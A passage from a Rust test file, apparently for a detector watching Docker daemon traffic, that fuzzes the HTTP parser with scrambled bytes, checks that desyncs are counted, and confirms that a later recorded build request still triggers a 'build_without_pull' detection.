/// as desyncs), and the next real request on a fresh connection is still understood.
#[test]
fn malformed_streams_are_counted_and_the_next_request_is_understood() {
    let mut h = Harness::new();
    let side = Side::daemon(1);
    let mut seed = 0x9e37_79b9_u32;
    for round in 0..200u32 {
        let len = (round * 37) % 700 + 1;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 17;
                seed ^= seed << 5;
                // Mostly HTTP-ish bytes, so the parser gets deep before failing.
                b"POST /build?t=x HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n0\r\n\xff"
                    [(seed % 73) as usize]
            })
            .collect();
        h.now += MS;
        let header = Header::for_test(DOCKERD, "dockerd", h.now);
        h.detector.on_data(DataInput {
            header: &header,
            line_id: "x",
            conn_id: side.conn_id,
            role: side.role,
            direction: side.direction,
            peer: &side.peer,
            local: side.local.as_ref(),
            bytes: &bytes,
            total_len: len + round % 3 * 1000,
            process: side.process.clone(),
            daemon_store: Some(STORE),
            skipped_before: 0,
            quiet_epoch: 0,
            clean_end: false,
        });
    }
    assert!(
        h.detector.stats().http_desyncs > 0,
        "the garbage was parsed as HTTP"
    );
    h.close(side.conn_id);
    h.feed(&Side::daemon(2), "classic_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    assert_eq!(h.detections("build_without_pull").len(), 1, "{:?}", h.json());
    h.detector.flush(h.now);
    h.collect();
}
